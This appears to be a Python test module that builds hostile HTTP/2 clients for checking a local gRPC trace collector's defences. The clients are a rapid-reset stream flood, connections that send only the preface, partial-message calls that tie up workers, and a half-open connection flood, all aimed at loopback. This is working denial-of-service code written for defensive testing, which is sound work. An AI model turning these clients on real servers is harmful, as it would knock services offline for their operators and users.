"""Hostile clients written at the byte level, so a test does exactly what an attacker does and
nothing a well-behaved library would add: HTTP/2 rapid reset (HEADERS then RST_STREAM, as fast as
the socket takes them), connections that send the HTTP/2 preface and then nothing, and
connections from a chosen loopback source address (127.0.0.2, 127.0.0.3 … are all loopback on
Linux), so one address can be capped while another gets through.
"""
from __future__ import annotations

import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes | int, value: bytes) -> bytes:
    """An HPACK literal without indexing (no Huffman): a static-table name index or a new name."""
    if isinstance(name, int):
        return bytes([name]) + _string(value)
    return b"\x00" + _string(name) + _string(value)


def _string(s: bytes) -> bytes:
    assert len(s) < 127
    return bytes([len(s)]) + s


def grpc_headers(authority: str, path: str = "/opentelemetry.proto.collector.trace.v1.TraceService/Export",
                 key: str | None = None) -> bytes:
    """A gRPC call's request headers, HPACK-encoded without the dynamic table."""
    block = (b"\x83" + b"\x86"  # :method POST, :scheme http (static table 3 and 6)
             + _literal(4, path.encode()) + _literal(1, authority.encode())
             + _literal(b"content-type", b"application/grpc") + _literal(b"te", b"trailers"))
    if key is not None:
        block += _literal(b"authorization", f"Bearer {key}".encode())
    return block


def connect(port: int, source: str = "127.0.0.1", timeout: float = 5) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0))


class Attack:
    """A loop on a thread of its own, from the start of a `with` block to its end."""

    def __init__(self) -> None:
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(10)

    def _loop(self) -> None:
        raise NotImplementedError


class RapidReset(Attack):
    """One HTTP/2 connection opening streams and resetting them at once, in batches, until stopped;
    it reads what the server sends (acking SETTINGS and PINGs, as a real attacker's library would),
    so the server never pauses it for unread frames. Reconnects when the server closes it."""

    def __init__(self, port: int, source: str = "127.0.0.1", key: str | None = None, batch: int = 50):
        super().__init__()
        self.port, self.source, self.key, self.batch = port, source, key, batch
        self.streams = self.connections = self.goaways = 0

    def _loop(self) -> None:
        while not self._stop.is_set():
            try:
                self._connection()
            except OSError:
                time.sleep(0.01)

    def _connection(self) -> None:
        sock = connect(self.port, self.source)
        self.connections += 1
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        closed = threading.Event()
        reader = threading.Thread(target=self._read, args=(sock, closed), daemon=True)
        reader.start()
        block = grpc_headers(f"127.0.0.1:{self.port}", key=self.key)
        stream = 1
        try:
            while not self._stop.is_set() and not closed.is_set() and stream < 2 ** 31 - 2 * self.batch:
                out = bytearray()
                for _ in range(self.batch):
                    out += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    stream += 2
                sock.sendall(out)
                self.streams += self.batch
        finally:
            sock.close()
            reader.join(5)

    def _read(self, sock: socket.socket, closed: threading.Event) -> None:
        buf = b""
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags, payload = buf[3], buf[4], buf[9:9 + length]
                    buf = buf[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        sock.sendall(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        sock.sendall(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        self.goaways += 1
        except OSError:
            pass
        closed.set()


def slow_calls(port: int, n: int, source: str) -> socket.socket:
    """One connection with `n` Export calls, each sending the first 2 bytes of a 1,000-byte
    message and then nothing: each holds a server worker while it waits for the rest."""
    sock = connect(port, source)
    out = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
    block = grpc_headers(f"127.0.0.1:{port}")
    for stream in range(1, 2 * n, 2):
        out += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"\x00" + struct.pack(">I", 1000) + b"ab")
    sock.sendall(out)
    return sock


def frames(data: bytes) -> list[tuple[int, int, int]]:
    """(type, flags, stream) of each whole frame in `data`."""
    out = []
    while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
        out.append((data[3], data[4], int.from_bytes(data[5:9], "big") & 0x7FFFFFFF))
        data = data[9 + int.from_bytes(data[:3], "big"):]
    return out


def preface_only(port: int, n: int, source: str = "127.0.0.1") -> list[socket.socket]:
    """`n` connections that send the HTTP/2 preface and empty SETTINGS, then nothing: a finished
    handshake that never makes a call. Connections the server refuses are left out."""
    socks = []
    for _ in range(n):
        try:
            sock = connect(port, source)
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        except OSError:
            continue
        socks.append(sock)
    return socks


class HalfOpenFlood(Attack):
    """Connections from `source` that send `half` a request and go silent, reopened as the server
    closes or refuses them, until stopped."""

    def __init__(self, port: int, half: bytes, source: str):
        super().__init__()
        self.port, self.half, self.source, self.opened = port, half, source, 0

    def _loop(self) -> None:
        socks: list[socket.socket] = []
        while not self._stop.is_set():
            try:
                sock = connect(self.port, self.source, timeout=2)
                sock.sendall(self.half)
                socks.append(sock)
                self.opened += 1
                time.sleep(0.002)  # ~500 a second: enough to refill, without using up the source ports
            except OSError:
                time.sleep(0.01)
            if len(socks) >= 64:
                socks = [sock for sock in socks if held(sock)]
        for sock in socks:
            sock.close()


def held(sock: socket.socket) -> bool:
    """The server has not closed `sock` (whatever it sent is read and dropped); `sock` is closed
    here when it has."""
    sock.setblocking(False)
    try:
        while sock.recv(1 << 16):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    sock.close()
    return False


def still_open(socks: list[socket.socket]) -> int:
    """How many of `socks` the server has not closed (closing the others)."""
    return sum(held(sock) for sock in socks if sock.fileno() != -1)
